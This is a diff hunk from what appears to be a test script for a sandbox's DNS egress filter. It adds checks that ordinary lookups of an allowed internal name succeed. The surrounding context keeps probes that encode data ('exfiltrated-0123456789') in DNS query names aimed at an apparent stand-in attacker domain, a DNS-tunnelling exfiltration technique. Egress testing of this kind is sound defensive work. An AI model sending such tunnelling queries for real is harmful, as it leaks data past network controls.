@@ -52,6 +52,13 @@ attempt("dns-tunnel-tcp")(lambda: _question(SINK_4, b"exfiltrated-0123456789.evi
 attempt("dns-below-target")(lambda: _question(SINK_4, b"exfiltrated-0123456789.crm.internal", 1))
 
 
+# What must work: a target's name, over either transport, from whatever server is asked.
+attempt("dns-target-a")(lambda: _question(SINK_4, b"crm.internal", 1))
+attempt("dns-target-aaaa")(lambda: _question(SINK_4, b"CRM.Internal", 28))
+attempt("dns-target-tcp")(lambda: _question(SINK_4, b"crm.internal", 1, tcp=True))
+attempt("dns-target-txt")(lambda: _question(SINK_4, b"crm.internal", 16))
+
+
 @attempt("dns-port-raw-data")
 def _dns_raw() -> str:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
